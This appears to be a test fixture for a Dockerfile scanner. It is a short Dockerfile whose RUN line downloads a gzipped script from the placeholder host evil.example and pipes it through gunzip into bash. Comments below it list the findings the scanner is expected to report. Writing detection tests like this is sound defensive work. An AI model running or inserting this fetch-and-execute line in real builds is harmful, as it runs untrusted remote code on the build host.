FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN curl -s https://evil.example/x.sh.gz | gunzip | bash
USER app
# expect: download 2 high "piped through gunzip into bash"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-0355eceb59 VR501-e064bac1a6
